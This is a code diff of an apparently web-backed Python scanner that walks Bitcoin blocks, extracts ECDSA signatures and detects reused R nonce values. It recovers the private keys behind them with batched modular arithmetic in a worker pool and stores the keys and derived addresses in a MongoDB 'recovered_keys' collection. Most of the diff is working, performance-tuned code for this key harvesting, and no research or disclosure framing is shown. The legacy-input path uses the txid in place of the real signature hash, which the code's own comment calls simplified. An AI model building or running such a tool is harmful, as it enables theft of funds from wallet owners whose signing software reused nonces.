+            vins = tx_data.get("vin") or ()
+            outpoints = b"".join(
+                bytes.fromhex(vin["txid"])[::-1] + vin["vout"].to_bytes(4, "little") for vin in vins
+            )
+            sequences = b"".join(vin["sequence"].to_bytes(4, "little") for vin in vins)
+            outputs = [
+                vout["value"].to_bytes(8, "little")
+                + _varint(len(vout["scriptpubkey"]) // 2)
+                + bytes.fromhex(vout["scriptpubkey"])
+                for vout in tx_data.get("vout") or ()
+            ]
+            version = tx_data["version"].to_bytes(4, "little")
+            hash_prevouts = double_sha256(outpoints)
+            hash_sequence = double_sha256(sequences)
+            midstate = (
+                version,
+                hash_prevouts,
+                hash_sequence,
+                double_sha256(b"".join(outputs)),
+                outputs,
+                tx_data["locktime"].to_bytes(4, "little"),
+                # SHA-256 state after the 68-byte prefix shared by every plain SIGHASH_ALL input
+                hashlib.sha256(version + hash_prevouts + hash_sequence)
+            )
+            self._cache.set(tx_id, midstate)
+        return midstate
+
+    def sighash(self, tx_data: Dict, input_index: int, script_code: bytes, sighash_type: int) -> bytes:
+        """BIP-143 digest for one input, reusing the transaction's cached midstate"""
+        version, hash_prevouts, hash_sequence, hash_outputs, outputs, locktime, prefix = self.midstate(tx_data)
+        vin = tx_data["vin"][input_index]
+        tail = (
+            bytes.fromhex(vin["txid"])[::-1],
+            vin["vout"].to_bytes(4, "little"),
+            script_code,
+            vin["prevout"]["value"].to_bytes(8, "little"),
+            vin["sequence"].to_bytes(4, "little")
+        )
+        if sighash_type == SIGHASH_ALL:
+            # Resume from the cached prefix state instead of rehashing it for every input
+            inner = prefix.copy()
+            inner.update(b"".join((*tail, hash_outputs, locktime, sighash_type.to_bytes(4, "little"))))
+            return hashlib.sha256(inner.digest()).digest()
+        base_type = sighash_type & 0x1f
+        if sighash_type & SIGHASH_ANYONECANPAY:
+            hash_prevouts = _ZERO_HASH
+        if sighash_type & SIGHASH_ANYONECANPAY or base_type in (SIGHASH_NONE, SIGHASH_SINGLE):
+            hash_sequence = _ZERO_HASH
+        if base_type == SIGHASH_SINGLE:
+            hash_outputs = double_sha256(outputs[input_index]) if input_index < len(outputs) else _ZERO_HASH
+        elif base_type == SIGHASH_NONE:
+            hash_outputs = _ZERO_HASH
+        return double_sha256(b"".join((
+            version,
+            hash_prevouts,
+            hash_sequence,
+            *tail,
+            hash_outputs,
+            locktime,
+            sighash_type.to_bytes(4, "little")
+        )))
+
+# Batched MongoDB persistence
+class MongoBatchWriter:
+    """Queue documents and write them with insert_many in batches"""
+    def __init__(self, collection, batch_size: int = 500, flush_interval: float = 0.25):
+        self.collection = collection
+        self.batch_size = batch_size
+        self.flush_interval = flush_interval
+        self.queue: asyncio.Queue = asyncio.Queue()
+        self._task: Optional[asyncio.Task] = None
+
+    def put(self, doc: Dict):
+        self.queue.put_nowait(doc)
+
+    async def start(self):
+        if self._task is None:
+            self._task = asyncio.create_task(self._run())
+
+    async def stop(self):
+        """Stop the flush loop and write whatever is still queued"""
+        if self._task is not None:
+            self._task.cancel()
+            self._task = None
+        batch = []
+        while not self.queue.empty():
+            batch.append(self.queue.get_nowait())
+        if batch:
+            await self._write(batch)
+
+    async def _run(self):
+        loop = asyncio.get_running_loop()
+        while True:
+            batch = [await self.queue.get()]
+            deadline = loop.time() + self.flush_interval
+            # Collect up to batch_size docs or until flush_interval elapses
+            while len(batch) < self.batch_size:
+                timeout = deadline - loop.time()
+                if timeout <= 0:
+                    break
+                try:
+                    batch.append(await asyncio.wait_for(self.queue.get(), timeout))
+                except asyncio.TimeoutError:
+                    break
+            await self._write(batch)
+
+    async def _write(self, batch: List[Dict]):
+        try:
+            await self.collection.insert_many(batch, ordered=False, bypass_document_validation=True)
+        except Exception as e:
+            logger.error("Error writing %d documents to %s: %s", len(batch), self.collection.name, e)
+
+# Scan logs are disposable, so acknowledge writes without waiting for the journal and age them out
+SCAN_LOG_TTL_SECONDS = 7 * 24 * 3600
+log_writer = MongoBatchWriter(db.get_collection("scan_logs", write_concern=WriteConcern(w=1, j=False)))
+# Recovered keys are batched per recovery round; a primary acknowledgement is enough for them
+recovered_keys_collection = db.get_collection("recovered_keys", write_concern=WriteConcern(w=1, j=False))
+# Signatures extracted from settled blocks, so rescans and restarts skip every transaction fetch
+BLOCK_SIGNATURE_CACHE_TTL_SECONDS = 24 * 3600
+block_signature_writer = MongoBatchWriter(
+    db.get_collection("block_signatures", write_concern=WriteConcern(w=1, j=False)), batch_size=8
+)
+
+# Shared scan state
+SCAN_SNAPSHOT_FIELDS = (
+    "config", "status", "current_block", "blocks_scanned", "total_blocks", "signatures_found",
+    "r_reuse_pairs", "keys_recovered", "progress_percentage", "created_at"
+)
+
+async def persist_scan_state(scan_id: str) -> bool:
+    """Mirror a local scan's progress to MongoDB and pick up stop requests from other workers"""
+    state = scan_states.get(scan_id)
+    if state is None:
+        return False
+    # Counters only: keys live in recovered_keys_collection, so the snapshot stays far below the BSON size limit
+    snapshot = {name: getattr(state, name) for name in SCAN_SNAPSHOT_FIELDS}
+    try:
+        previous = await db.scan_states.find_one_and_update(
+            {"scan_id": scan_id},
+            {"$set": snapshot},
+            upsert=True,
+            projection={"_id": 0, "stop_requested": 1}
+        )
+        if previous and previous.get("stop_requested") and state.status == "running":
+            state.stop()
+        state.persisted = True
+        return True
+    except Exception as e:
+        logger.error("Error persisting scan state %s: %s", scan_id, e)
+        return False
+
+# Finished scans kept in memory after their final snapshot; older ones are served from MongoDB
+MAX_FINISHED_SCANS = 64
+_finished_scans: deque = deque()
+
+def retire_scan(scan_id: str):
+    """Record a finished, persisted scan and drop the oldest finished scans from memory"""
+    _finished_scans.append(scan_id)
+    while len(_finished_scans) > MAX_FINISHED_SCANS:
+        scan_states.pop(_finished_scans.popleft(), None)
+
+async def get_scan_state(scan_id: str, include_keys: bool = False) -> ScanState:
+    """Return the local scan state, or the last snapshot another worker stored in MongoDB"""
+    state = scan_states.get(scan_id)
+    if state is not None:
+        return state
+    try:
+        snapshot = await db.scan_states.find_one({"scan_id": scan_id}, {"_id": 0, "recovered_keys": 0})
+        if snapshot is not None:
+            logs = await db.scan_logs.find(
+                {"scan_id": scan_id}, {"_id": 0, "scan_id": 0, "created_at": 0}
+            ).sort("_id", -1).to_list(50)
+            keys = []
+            if include_keys:
+                keys = await recovered_keys_collection.find(
+                    {"scan_id": scan_id}, {"_id": 0, "scan_id": 0}
+                ).sort("_id", 1).to_list(None)
+            return ScanState(
+                **{name: snapshot[name] for name in SCAN_SNAPSHOT_FIELDS if name in snapshot},
+                logs=deque(reversed(logs), maxlen=200),
+                recovered_keys=keys
+            )
+    except Exception as e:
+        logger.error("Error loading scan state %s: %s", scan_id, e)
+    raise HTTPException(status_code=404, detail="Scan not found")
 
 # Core scanning logic
+class SigRow(NamedTuple):
+    """Compact signature record kept per R value while a scan is running"""
+    s: int
+    message_hash: int
+    tx_id: bytes
+    input_index: int
+
+def _fixed32(value: bytes) -> bytes:
+    """Normalise a big-endian DER integer to exactly 32 bytes"""
+    return value[-32:] if len(value) > 32 else value.rjust(32, b"\x00")
+
+def recover_key_batch(candidates: List[tuple]) -> List[Optional[tuple]]:
+    """Recover (private_key_hex, compressed, uncompressed) per candidate; module-level so a process pool can run it"""
+    results: List[Optional[tuple]] = []
+    derived: Dict[int, tuple] = {}
+    for private_key_int in BitcoinCrypto.batch_recover_candidates(candidates):
+        if private_key_int is None:
+            results.append(None)
+            continue
+        result = derived.get(private_key_int)
+        if result is None:
+            # The recovered int feeds address derivation directly; hex is only produced for the result
+            result = derived[private_key_int] = (
+                f"{private_key_int:064x}", *BitcoinCrypto.private_key_int_addresses(private_key_int)
+            )
+        results.append(result)
+    return results
+
+# Bloom filter sizing: signatures expected per scanned block, bits per expected signature, and clamps (8 KiB to 32 MiB)
+BLOOM_SIGNATURES_PER_BLOCK = 5000
+BLOOM_BITS_PER_SIGNATURE = 16
+BLOOM_MIN_BITS_LOG2 = 16
+BLOOM_MAX_BITS_LOG2 = 28
+
+def bloom_bits_log2(expected_items: int) -> int:
+    """Filter size (log2 of the bit count) for the expected number of R values, clamped to the min/max"""
+    wanted = max(1, expected_items * BLOOM_BITS_PER_SIGNATURE - 1).bit_length()
+    return min(BLOOM_MAX_BITS_LOG2, max(BLOOM_MIN_BITS_LOG2, wanted))
+
+class RBloomFilter:
+    """Bit-array Bloom filter over R values; R is a curve x-coordinate, so its own bytes serve as the hashes"""
+    def __init__(self, bits_log2: int = BLOOM_MAX_BITS_LOG2):
+        self.mask = (1 << bits_log2) - 1
+        self.bits = bytearray(1 << (bits_log2 - 3))
+
+    def add(self, r: bytes) -> bool:
+        """Insert R; returns True if it was (probably) already present"""
+        bits = self.bits
+        mask = self.mask
+        present = True
+        # One int conversion of the first 24 bytes, then three 64-bit lanes by shifting
+        key = int.from_bytes(r[:24], "little")
+        for shift in (0, 64, 128):
+            h = (key >> shift) & mask
+            byte, bit = h >> 3, 1 << (h & 7)
+            if not bits[byte] & bit:
+                present = False
+                bits[byte] |= bit
+        return present
+
+class SignatureStore:
+    """Column-wise store of raw 32-byte r/s/hash/txid values collected during a scan"""
+    def __init__(self, spill_rows: int = 250_000, expected_rows: Optional[int] = None):
+        self.spill_rows = spill_rows
+        self.bloom_bits_log2 = BLOOM_MAX_BITS_LOG2 if expected_rows is None else bloom_bits_log2(expected_rows)
+        self._db: Optional[sqlite3.Connection] = None
+        self._db_path: Optional[str] = None
+        self._bloom: Optional[RBloomFilter] = None
+        self._reset_columns()
+
+    def _reset_columns(self):
+        self.r = bytearray()
+        self.s = bytearray()
+        self.message_hash = bytearray()
+        # Inputs of one transaction arrive together, so each txid is stored once and rows point at it
+        self.tx_id = bytearray()
+        self.tx_ref = array("I")
+        self._last_tx_id = b""
+        self.input_index = array("I")
+
+    def __len__(self) -> int:
+        return len(self.input_index)
+
+    def append(self, r: bytes, s: bytes, message_hash: bytes, tx_id: bytes, input_index: int) -> bool:
+        """Store a signature; returns True when the Bloom filter has (probably) seen its R before"""
+        r = _fixed32(r)
+        if self._bloom is None:
+            self._bloom = RBloomFilter(self.bloom_bits_log2)
+        seen = self._bloom.add(r)
+        self.r += r
+        self.s += _fixed32(s)
+        self.message_hash += _fixed32(message_hash)
+        if tx_id != self._last_tx_id:
+            self.tx_id += _fixed32(tx_id)
+            self._last_tx_id = tx_id
+        self.tx_ref.append(len(self.tx_id) // 32 - 1)
+        self.input_index.append(input_index)
+        return seen
+
+    def row(self, i: int) -> SigRow:
+        lo, hi = i * 32, i * 32 + 32
+        tx = self.tx_ref[i] * 32
+        return SigRow(
+            int.from_bytes(self.s[lo:hi], "big"),
+            int.from_bytes(self.message_hash[lo:hi], "big"),
+            bytes(self.tx_id[tx:tx + 32]),
+            self.input_index[i]
+        )
+
+    def first_row(self, r: bytes) -> Optional[SigRow]:
+        """Earliest stored row with this R, ignoring the row appended last"""
+        r = _fixed32(r)
+        if self._db is not None:
+            found = self._db.execute(
+                "SELECT s, h, tx, idx FROM signatures WHERE r = ? ORDER BY rowid LIMIT 1", (r,)
+            ).fetchone()
+            if found is not None:
+                s, h, tx, idx = found
+                return SigRow(int.from_bytes(s, "big"), int.from_bytes(h, "big"), tx, idx)
+        # bytearray.find scans the R column in C; only 32-byte aligned hits are real rows
+        end = len(self.r) - 32
+        pos = self.r.find(r, 0, end)
+        while pos != -1:
+            if pos % 32 == 0:
+                return self.row(pos // 32)
+            pos = self.r.find(r, pos + 1, end)
+        return None
+
+    def should_spill(self) -> bool:
+        return len(self) >= self.spill_rows
+
+    def spill(self):
+        """Move the in-memory columns into an on-disk sqlite table"""
+        if self._db is None:
+            fd, self._db_path = tempfile.mkstemp(prefix="rscan-", suffix=".sqlite")
+            os.close(fd)
+            self._db = sqlite3.connect(self._db_path, check_same_thread=False)
+            self._db.execute("PRAGMA journal_mode=OFF")
+            self._db.execute("PRAGMA synchronous=OFF")
+            self._db.execute("CREATE TABLE signatures (r BLOB, s BLOB, h BLOB, tx BLOB, idx INTEGER)")
+            self._db.execute("CREATE INDEX r_idx ON signatures(r)")
+        r, s, h, tx = (memoryview(column) for column in (self.r, self.s, self.message_hash, self.tx_id))
+        rows = (
+            (bytes(r[lo:lo + 32]), bytes(s[lo:lo + 32]), bytes(h[lo:lo + 32]), bytes(tx[ref * 32:ref * 32 + 32]), idx)
+            for lo, ref, idx in zip(range(0, len(self.r), 32), self.tx_ref, self.input_index)
+        )
+        with self._db:
+            self._db.executemany("INSERT INTO signatures VALUES (?, ?, ?, ?, ?)", rows)
+        for column in (r, s, h, tx):
+            column.release()
+        self._reset_columns()
+
+    def close(self):
+        if self._db is not None:
+            self._db.close()
+            self._db = None
+            os.unlink(self._db_path)
+        self._bloom = None
+        self._reset_columns()
+
 class RValueScanner:
     def __init__(self):
         self.api = BlockchainAPI()
         self.crypto = BitcoinCrypto()
         self.signature_cache = {}  # Cache for R values
+        self.sighash_cache = TxSighashCache()
+        self.max_concurrent_blocks = 3
+        self.max_concurrent_pages = 10
+        self.page_queue_size = 200
+        # Per-scan log buffers, coalesced into scan state every log_flush_interval seconds
+        self.log_buffer_size = 4096
+        self.log_flush_size = 256
+        self.log_flush_interval = 0.25
+        # Per-R detail lines logged before the reuse search switches to a summary line
+        self.log_reused_limit = 100
+        # Minimum seconds between scan-state snapshots written to MongoDB while a scan runs
+        self.state_persist_interval = 1.0
+        self._log_buf: Dict[str, deque] = {}
+        self._log_dirty = asyncio.Event()
+        self._log_flush_task: Optional[asyncio.Task] = None
+        self._recovery_pool: Optional[ProcessPoolExecutor] = None
+        # Recovery batches up to this many candidates run inline instead of in the process pool
+        self.recovery_inline_max = 2
+        # Scans wait here for one of max_concurrent_scans long-lived workers instead of all running at once
+        self.max_concurrent_scans = int(os.environ.get('MAX_CONCURRENT_SCANS', '2'))
+        self.scan_queue: asyncio.Queue = asyncio.Queue()
+        self._scan_workers: List[asyncio.Task] = []
+        self._busy_scan_workers = 0
     
     async def scan_blocks(self, scan_id: str, start_block: int, end_block: int, address_types: List[str]):
         """Main scanning function"""
+        # Raw signature columns, spilled to disk for large scans; reuse is detected as rows arrive
+        store = SignatureStore(expected_rows=(end_block - start_block + 1) * BLOOM_SIGNATURES_PER_BLOCK)
+        # First signature seen for each confirmed reused R; every later one is paired against it
+        pivots: Dict[bytes, SigRow] = {}
+        recovery_queue: asyncio.Queue = asyncio.Queue()
+        recovery_task = asyncio.create_task(self.recover_worker(scan_id, recovery_queue))
         try:
-            scan_states[scan_id]["status"] = "running"
-            scan_states[scan_id]["current_block"] = start_block
-            scan_states[scan_id]["total_blocks"] = end_block - start_block + 1
+            scan_states[scan_id].status = "running"
+            scan_states[scan_id].version += 1
+            stop_event = scan_states[scan_id].stop_event
+            scan_states[scan_id].current_block = start_block
+            scan_states[scan_id].total_blocks = end_block - start_block + 1
             
-            signatures_by_r = {}  # Group signatures by R value
+            # Refresh the tip so lookups near it bypass the chain-data caches
+            await self.api.get_block_height()
             
-            for block_num in range(start_block, end_block + 1):
-                if scan_states[scan_id]["status"] == "stopped":
-                    break
-                
-                await self.add_log(scan_id, f"Scanning block {block_num}...")
-                
-                # Get block hash
-                block_hash = await self.api.get_block_hash(block_num)
-                if not block_hash:
-                    await self.add_log(scan_id, f"Failed to get block hash for {block_num}", "warning")
-                    continue
-                
-                # Get transactions in block
-                tx_ids = await self.api.get_block_transactions(block_hash)
-                
-                for tx_id in tx_ids:
-                    if scan_states[scan_id]["status"] == "stopped":
+            total_blocks = end_block - start_block + 1
+            blocks_done = 0
+            next_block = start_block
+            # Sliding window of in-flight blocks: a new block starts as soon as any block finishes
+            in_flight: Dict[asyncio.Task, int] = {}
+            max_in_flight = self.max_concurrent_blocks * 2
+            last_persist = time.monotonic()
+            
+            try:
+                while True:
+                    while (next_block <= end_block and len(in_flight) < max_in_flight
+                           and not stop_event.is_set()):
+                        self.add_log(scan_id, f"Scanning block {next_block}...")
+                        task = asyncio.create_task(self.process_single_block(scan_id, next_block, address_types))
+                        in_flight[task] = next_block
+                        next_block += 1
+                    
+                    if not in_flight:
                         break
                     
-                    # Get transaction details
-                    tx_data = await self.api.get_transaction(tx_id)
-                    if not tx_data:
-                        continue
+                    done, _ = await asyncio.wait(in_flight, return_when=asyncio.FIRST_COMPLETED)
+                    for task in done:
+                        block_num = in_flight.pop(task)
+                        blocks_done += 1
+                        signatures = task.result()
+                        if signatures is None:
+                            continue
+                        
+                        for sig in signatures:
+                            if store.append(sig["r"], sig["s"], sig["message_hash"], sig["tx_id"], sig["input_index"]):
+                                self.queue_reused_r(scan_id, store, pivots, recovery_queue, sig["r"])
+                        
+                        scan_states[scan_id].signatures_found += len(signatures)
+                        scan_states[scan_id].current_block = max(scan_states[scan_id].current_block, block_num)
+                        scan_states[scan_id].blocks_scanned += 1
                     
-                    # Extract signatures from transaction
-                    signatures = await self.extract_signatures(tx_data, address_types)
+                    # Counters change together between awaits, so progress reads never see a half-applied batch
+                    scan_states[scan_id].progress_percentage = blocks_done / total_blocks * 100
+                    scan_states[scan_id].version += 1
                     
-                    # Group signatures by R value
-                    for sig in signatures:
-                        r_value = sig["r"]
-                        if r_value not in signatures_by_r:
-                            signatures_by_r[r_value] = []
-                        signatures_by_r[r_value].append(sig)
+                    if store.should_spill():
+                        await asyncio.to_thread(store.spill)
                     
-                    scan_states[scan_id]["signatures_found"] += len(signatures)
-                
-                scan_states[scan_id]["current_block"] = block_num
-                scan_states[scan_id]["blocks_scanned"] += 1
-                scan_states[scan_id]["progress_percentage"] = (
-                    (block_num - start_block + 1) / (end_block - start_block + 1) * 100
-                )
-                
-                # Add delay to avoid API rate limiting
-                await asyncio.sleep(0.1)
+                    now = time.monotonic()
+                    if now - last_persist >= self.state_persist_interval:
+                        last_persist = now
+                        await persist_scan_state(scan_id)
+            finally:
+                for task in in_flight:
+                    task.cancel()
             
-            # Find reused R values and recover private keys
-            await self.find_reused_r_values(scan_id, signatures_by_r)
+            # Let the recovery worker finish the pairs still queued
+            recovery_queue.put_nowait(None)
+            await recovery_task
+            if len(pivots) > self.log_reused_limit:
+                self.add_log(
+                    scan_id, f"... and {len(pivots) - self.log_reused_limit} more reused R values", "warning"
+                )
             
-            scan_states[scan_id]["status"] = "completed"
-            await self.add_log(scan_id, f"Scan completed! Found {scan_states[scan_id]['keys_recovered']} private keys", "success")
+            scan_states[scan_id].status = "completed"
+            scan_states[scan_id].version += 1
+            self.add_log(scan_id, f"Scan completed! Found {scan_states[scan_id].keys_recovered} private keys", "success")
             
         except Exception as e:
-            logger.error(f"Scan error: {e}")
-            scan_states[scan_id]["status"] = "failed"
-            await self.add_log(scan_id, f"Scan failed: {str(e)}", "error")
+            logger.error("Scan error: %s", e)
+            scan_states[scan_id].status = "failed"
+            scan_states[scan_id].version += 1
+            self.add_log(scan_id, f"Scan failed: {str(e)}", "error")
+        finally:
+            recovery_task.cancel()
+            store.close()
+        
+        self.flush_logs()
+        if await persist_scan_state(scan_id):
+            retire_scan(scan_id)
+    
+    async def process_single_block(self, scan_id: str, block_num: int, address_types: List[str]) -> Optional[List[Dict]]:
+        """Fetch a block's transactions through a bounded worker queue and extract their signatures"""
+        block_hash = await self.api.get_block_hash(block_num)
+        if not block_hash:
+            self.add_log(scan_id, f"Failed to get block hash for {block_num}", "warning")
+            return None
+        
+        cache_key = f"{block_hash}:{','.join(sorted(address_types))}"
+        cacheable = block_num <= self.api.tip_height - REORG_SAFETY_DEPTH
+        if cacheable:
+            cached = await self.load_block_signatures(cache_key)
+            if cached is not None:
+                return cached
+        
+        tx_count = await self.api.get_block_tx_count(block_hash)
+        if not tx_count:
+            self.add_log(scan_id, f"Failed to get transactions for block {block_num}", "warning")
+            return []
+        
+        stop_event = scan_states[scan_id].stop_event
+        queue: asyncio.Queue = asyncio.Queue(maxsize=self.page_queue_size)
+        signatures: List[Dict] = []
+        failed_pages: List[int] = []
+        
+        async def worker():
+            while True:
+                start = await queue.get()
+                try:
+                    if not stop_event.is_set():
+                        # One request returns a page of full transactions instead of one call per txid
+                        txs = await self.api.get_block_transactions_page(block_hash, start)
+                        if txs is None:
+                            failed_pages.append(start)
+                            continue
+                        for tx_data in txs:
+                            signatures.extend(await self.extract_signatures(tx_data, address_types))
+                except Exception as e:
+                    failed_pages.append(start)
+                    logger.error("Error processing transactions %s of block %s: %s", start, block_hash, e)
+                finally:
+                    queue.task_done()
+        
+        workers = [asyncio.create_task(worker()) for _ in range(self.max_concurrent_pages)]
+        try:
+            for start in range(0, tx_count, BLOCK_TXS_PAGE_SIZE):
+                if stop_event.is_set():
+                    break
+                await queue.put(start)
+            await queue.join()
+        finally:
+            for task in workers:
+                task.cancel()
+            await asyncio.gather(*workers, return_exceptions=True)
+        
+        if failed_pages:
+            self.add_log(scan_id, f"Block {block_num}: {len(failed_pages)} transaction pages failed", "warning")
+        # A stopped scan or a failed page may have skipped transactions, so only complete blocks are cached
+        if cacheable and not failed_pages and not stop_event.is_set():
+            block_signature_writer.put({
+                "key": cache_key,
+                "height": block_num,
+                "block_hash": block_hash,
+                "signatures": [
+                    [sig["r"], sig["s"], sig["message_hash"], sig["tx_id"], sig["input_index"], sig["type"]]
+                    for sig in signatures
+                ],
+                "created_at": datetime.now(timezone.utc)
+            })
+        return signatures
+    
+    async def warm_block_hash_cache(self):
+        """Seed the block hash cache from cached blocks so a restarted scan skips their hash lookups"""
+        try:
+            async for doc in block_signature_writer.collection.find(
+                {}, {"_id": 0, "height": 1, "block_hash": 1}
+            ).sort("height", -1).limit(self.api.block_hash_cache.maxsize):
+                self.api.block_hash_cache.set(doc["height"], doc["block_hash"])
+        except Exception as e:
+            logger.error("Error warming block hash cache: %s", e)
+    
+    async def load_block_signatures(self, cache_key: str) -> Optional[List[Dict]]:
+        """Signatures cached for a settled block by an earlier scan, if any"""
+        try:
+            doc = await block_signature_writer.collection.find_one({"key": cache_key}, {"_id": 0, "signatures": 1})
+        except Exception as e:
+            logger.error("Error loading cached block signatures %s: %s", cache_key, e)
+            return None
+        if doc is None:
+            return None
+        return [
+            {"r": r, "s": s, "message_hash": message_hash, "tx_id": tx_id, "input_index": input_index, "type": sig_type}
+            for r, s, message_hash, tx_id, input_index, sig_type in doc["signatures"]
+        ]
     
     async def extract_signatures(self, tx_data: Dict, address_types: List[str]) -> List[Dict]:
         """Extract ECDSA signatures from transaction"""
         signatures = []
+        append = signatures.append
+        # Resolve the address-type filters once per transaction instead of once per input
+        scan_legacy = "legacy" in address_types
+        scan_witness = "segwit" in address_types or "taproot" in address_types
         
         try:
+            # Decode the txid once; signature records carry raw bytes and are only hex-encoded for output
+            tx_id = bytes.fromhex(tx_data["txid"])
             # Extract from transaction inputs
-            for i, vin in enumerate(tx_data.get("vin", [])):
-                script_sig = vin.get("scriptsig", "")
-                witness = vin.get("witness", [])
+            for i, vin in enumerate(tx_data.get("vin") or ()):
+                # Coinbase inputs carry arbitrary data, never a signature
+                if vin.get("is_coinbase"):
+                    continue
                 
                 # Parse script signatures (simplified)
-                if script_sig and "legacy" in address_types:
-                    sig_data = await self.parse_script_signature(script_sig, tx_data["txid"], i)
-                    if sig_data:
-                        signatures.append(sig_data)
+                if scan_legacy:
+                    script_sig = vin.get("scriptsig")
+                    if script_sig:
+                        sig_data = self.parse_script_signature(script_sig, tx_id, i)
+                        if sig_data:
+                            append(sig_data)
                 
                 # Parse witness signatures (SegWit)
-                if witness and ("segwit" in address_types or "taproot" in address_types):
-                    sig_data = await self.parse_witness_signature(witness, tx_data["txid"], i)
-                    if sig_data:
-                        signatures.append(sig_data)
+                if scan_witness:
+                    witness = vin.get("witness")
+                    # Needs a signature and a pubkey, and item 0 long enough for DER (skips empty multisig dummies)
+                    if witness and len(witness) >= 2 and len(witness[0]) > 140:
+                        sig_data = self.parse_witness_signature(witness, tx_id, i, tx_data)
+                        if sig_data:
+                            append(sig_data)
         
         except Exception as e:
-            logger.error(f"Error extracting signatures: {e}")
+            logger.error("Error extracting signatures: %s", e)
         
         return signatures
     
-    async def parse_script_signature(self, script_sig: str, tx_id: str, input_index: int) -> Optional[Dict]:
+    def parse_script_signature(self, script_sig: str, tx_id: bytes, input_index: int) -> Optional[Dict]:
         """Parse signature from script (simplified)"""
+        # Too short to hold a DER signature plus pubkey (coinbase, bare P2SH pushes) or not valid hex
+        script_len = len(script_sig)
+        if script_len < 140 or script_len & 1:
+            return None
         try:
-            # This is a simplified parser - in production, you'd need proper Bitcoin script parsing
-            if len(script_sig) > 140:  # Typical signature + pubkey length
-                # Extract DER signature (first ~70 bytes)
-                der_sig = script_sig[:140]
-                r, s = await self.parse_der_signature(der_sig)
-                if r and s:
-                    return {
-                        "tx_id": tx_id,
-                        "input_index": input_index,
-                        "r": r,
-                        "s": s,
-                        "type": "legacy",
-                        "message_hash": tx_id  # Simplified - should be proper sighash
-                    }
+            candidates = scan_der_signatures(bytes.fromhex(script_sig))
+            if candidates:
+                _, r, s = candidates[0]
+                return {
+                    "tx_id": tx_id,
+                    "input_index": input_index,
+                    "r": r,
+                    "s": s,
+                    "type": "legacy",
+                    "message_hash": tx_id  # Simplified - should be proper sighash
+                }
         except Exception as e:
-            logger.error(f"Error parsing script signature: {e}")
+            logger.error("Error parsing script signature: %s", e)
         return None
     
-    async def parse_witness_signature(self, witness: List[str], tx_id: str, input_index: int) -> Optional[Dict]:
+    def parse_witness_signature(self, witness: List[str], tx_id: bytes, input_index: int,
+                                tx_data: Optional[Dict] = None) -> Optional[Dict]:
         """Parse signature from witness data"""
         try:
             if len(witness) >= 2:  # Signature + pubkey
                 sig_hex = witness[0]
                 if len(sig_hex) > 140:  # Has signature
-                    r, s = await self.parse_der_signature(sig_hex)
-                    if r and s:
+                    sig = bytes.fromhex(sig_hex)
+                    parsed = parse_der_at(sig, 0)
+                    if parsed:
+                        message_hash = tx_id  # Fallback when the input's scriptCode can't be derived
+                        if tx_data is not None:
+                            script_code = segwit_v0_script_code(tx_data["vin"][input_index], witness)
+                            if script_code is not None:
+                                message_hash = self.sighash_cache.sighash(
+                                    tx_data, input_index, script_code, sig[-1]
+                                )
                         return {
                             "tx_id": tx_id,
                             "input_index": input_index,
-                            "r": r,
-                            "s": s,
+                            "r": parsed[0],
+                            "s": parsed[1],
                             "type": "segwit",
-                            "message_hash": tx_id  # Simplified
+                            "message_hash": message_hash
                         }
         except Exception as e:
-            logger.error(f"Error parsing witness signature: {e}")
+            logger.error("Error parsing witness signature: %s", e)
         return None
     
-    async def parse_der_signature(self, der_hex: str) -> tuple:
-        """Parse DER encoded signature to extract r and s values"""
-        try:
-            # Simplified DER parsing - in production, use proper DER decoder
-            der_bytes = bytes.fromhex(der_hex)
-            
-            if len(der_bytes) < 8:
-                return None, None
-            
-            # Skip DER header and extract r and s (simplified)
-            r_start = 4
-            r_len = der_bytes[3]
-            s_start = r_start + r_len + 2
-            s_len = der_bytes[s_start - 1]
-            
-            if r_start + r_len <= len(der_bytes) and s_start + s_len <= len(der_bytes):
-                r = der_bytes[r_start:r_start + r_len].hex()
-                s = der_bytes[s_start:s_start + s_len].hex()
-                return r, s
-            
-        except Exception as e:
-            logger.error(f"Error parsing DER signature: {e}")
-        
-        return None, None
+    def queue_reused_r(self, scan_id: str, store: SignatureStore, pivots: Dict[bytes, SigRow],
+                       recovery_queue: asyncio.Queue, r: bytes):
+        """Pair the signature just stored with the first one sharing its R and queue it for recovery"""
+        r_key = _fixed32(r)
+        pivot = pivots.get(r_key)
+        if pivot is None:
+            pivot = store.first_row(r_key)
+            if pivot is None:
+                return  # Bloom filter false positive
+            # R value reused
+            pivots[r_key] = pivot
+            scan_states[scan_id].r_reuse_pairs = len(pivots)
+            if len(pivots) <= self.log_reused_limit:
+                self.add_log(scan_id, f"Found reused R value: {r_key.hex()[:16]}...", "warning")
+        # Every signature sharing R with the pivot leaks the same key: k-1 pairs instead of k(k-1)/2
+        recovery_queue.put_nowait((r_key, pivot, store.row(len(store) - 1)))
+    
+    async def recover_worker(self, scan_id: str, recovery_queue: asyncio.Queue):
+        """Recover keys from queued reused-R pairs while the scan keeps fetching blocks"""
+        seen_keys = set()
+        done = False
+        while not done:
+            item = await recovery_queue.get()
+            if item is None:
+                break
+            # Drain whatever else is already queued so one inversion covers the whole batch
+            pairs = [item]
+            while not recovery_queue.empty():
+                item = recovery_queue.get_nowait()
+                if item is None:
+                    done = True
+                    break
+                pairs.append(item)
+            await self.recover_pairs(scan_id, pairs, seen_keys)
     
-    async def find_reused_r_values(self, scan_id: str, signatures_by_r: Dict):
-        """Find reused R values and recover private keys"""
+    def get_recovery_pool(self) -> ProcessPoolExecutor:
+        """Process pool for key recovery, normally created by start()"""
+        if self._recovery_pool is None:
+            # Forking a process that already runs Motor and to_thread workers can copy a held lock into
+            # the child, so workers come from a clean forkserver instead
+            self._recovery_pool = ProcessPoolExecutor(
+                max_workers=os.cpu_count(), mp_context=multiprocessing.get_context("forkserver")
+            )
+        return self._recovery_pool
+    
+    async def recover_pairs(self, scan_id: str, pairs: List[tuple], seen_keys: set):
+        """Recover private keys from (r, sig1, sig2) pairs sharing R"""
         try:
-            reused_count = 0
             recovered_keys = []
+            candidates = [
+                (int.from_bytes(r_key, "big"), sig1.s, sig2.s, sig1.message_hash, sig2.message_hash)
+                for r_key, sig1, sig2 in pairs
+            ]
             
-            for r_value, signatures in signatures_by_r.items():
-                if len(signatures) >= 2:  # R value reused
-                    reused_count += 1
-                    await self.add_log(scan_id, f"Found reused R value: {r_value[:16]}...", "warning")
+            if len(candidates) <= self.recovery_inline_max:
+                # A pair or two recovers faster than it pickles to a worker
+                recovered = recover_key_batch(candidates)
+            else:
+                # Bignum recovery and address derivation run in a worker process, off the event loop
+                recovered = await asyncio.get_running_loop().run_in_executor(
+                    self.get_recovery_pool(), recover_key_batch, candidates
+                )
